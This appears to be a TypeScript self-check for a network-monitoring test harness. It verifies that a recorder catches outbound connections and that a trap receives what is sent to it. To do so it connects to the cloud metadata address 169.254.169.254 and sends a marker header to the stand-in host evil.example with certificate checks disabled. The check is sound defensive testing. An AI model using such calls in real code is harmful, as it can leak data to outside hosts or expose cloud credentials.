import { once } from 'node:events'
import https from 'node:https'
import net from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { strayTrips } from './allowed'
import type { Watch } from './try-keys'

const SAID = 'said by a control'

/** Shows that the watch sees what goes elsewhere, and that the trap hears what is said to it. */
export async function controls({ recorder, trap, report }: Watch): Promise<void> {
  recorder.take()
  net
    .connect(80, '169.254.169.254')
    .on('error', () => undefined)
    .destroy()
  const request = https.get('https://evil.example/', { rejectUnauthorized: false, headers: { said: SAID } })
  request.on('error', () => undefined)
  await once(request, 'finish')
  // The trap answers nothing, so that there is nothing to wait for but what it has heard.
  for (let waits = 0; waits < 100 && !trap.heard.includes(SAID); waits += 1) await sleep(50)
  request.destroy()
  const stray = strayTrips(recorder.take(), new Set(), [])
  const hosts = new Set(stray.map(({ host }) => host))
  report.check(hosts.has('169.254.169.254'), 'the watch is blind to an address')
  report.check(hosts.has('evil.example'), 'the watch is blind to a name')
  report.check(trap.heard.includes(SAID), 'the trap is deaf')
  recorder.seen.clear()
  trap.forget()
}
